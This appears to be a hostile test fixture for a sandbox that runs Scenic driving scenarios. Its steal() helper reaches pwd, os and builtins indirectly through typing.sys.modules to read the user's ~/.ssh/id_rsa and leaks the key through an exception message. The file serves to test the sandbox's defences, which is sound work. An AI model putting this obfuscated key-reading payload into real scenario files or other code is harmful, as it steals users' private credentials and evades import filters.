# Hostile test script for arise's sandbox: never run it outside tests/validate/test_hostile.py.
# read_user_home_pwd (read_secret): the real home directory from the password database (pwd), then its ~/.ssh/id_rsa.
# The payload runs inside a plain `def` helper.
# @CANARY@, @SECRET@, @SSH_KEY@, @PORT@ ... are filled in by the test (see manifest.yaml).
Town = 'arise_straight'
param map = localPath(f'maps/{Town}.xodr')
param carla_map = Town
model scenic.simulators.carla.model
import typing

def steal():
    accounts = typing.sys.modules['importlib'].import_module('pwd')
    home = accounts.getpwuid(typing.sys.modules['os'].getuid()).pw_dir
    with typing.sys.modules['builtins'].open(home + '/.ssh/id_rsa') as handle:
        raise RuntimeError('stolen key: ' + handle.read())

steal()

egoLane = Uniform(*network.lanes)
ego = new Car on egoLane.centerline, with blueprint "vehicle.lincoln.mkz_2017", with behavior FollowLaneBehavior(target_speed=8)
